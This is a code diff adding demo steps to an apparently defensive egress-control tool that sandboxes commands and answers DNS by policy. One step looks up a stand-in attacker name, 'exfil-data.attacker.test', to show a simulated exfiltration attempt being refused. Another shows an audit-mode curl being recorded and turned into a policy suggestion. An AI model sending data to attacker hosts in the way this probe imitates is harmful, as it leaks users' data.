@@ -61,6 +61,29 @@ def main():
         time.sleep(0.3)  # kernel events reach the daemon within ~100 ms
         show("egressctl events --instance demo-agent  (the audit trail)",
              daemon.ctl("events", "--instance", "demo-agent"))
+
+        # egressctl run: one command, one sandbox; DNS answered by policy.
+        lookup = ("import socket, sys\nsys.path.insert(0, %r)\nfrom fakedns import build_query\n"
+                  "for name in sys.argv[1:]:\n"
+                  " s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n"
+                  " s.sendto(build_query(7, name), ('127.0.0.1', 53))\n"
+                  " print(name, 'NXDOMAIN' if s.recv(512)[3] & 15 == 3 else 'answered')"
+                  % os.path.join(HERE, "..", "tests", "e2e"))
+        show("egressctl run --policy demo -- python3 lookup.py api.example.test exfil-data.attacker.test",
+             daemon.run("--policy", "demo", "--netns", "host", "--instance", "demo-run", "--",
+                        "python3", "-c", lookup, "api.example.test", "exfil-data.attacker.test"))
+
+        # Learning mode: run once in audit mode, then ask for a policy.
+        write_policy(daemon.policy_dir, "learn", mode="audit", allowed_hosts=["api.example.test"])
+        show(f"egressctl run --policy learn -- curl http://blocked.example.test:{http.port}/  "
+             "(audit mode: let through, recorded)",
+             daemon.run("--policy", "learn", "--netns", "host", "--instance", "demo-learn", "--",
+                        "curl", "-sS", "--resolve", f"blocked.example.test:{http.port}:127.0.0.1",
+                        f"http://blocked.example.test:{http.port}/"))
+        show("egressctl events --instance demo-learn",
+             daemon.ctl("events", "--instance", "demo-learn"))
+        show("egressctl policy suggest --instance demo-learn",
+             daemon.ctl("policy", "suggest", "--instance", "demo-learn"))
     finally:
         if sandbox:
             sandbox.cleanup()
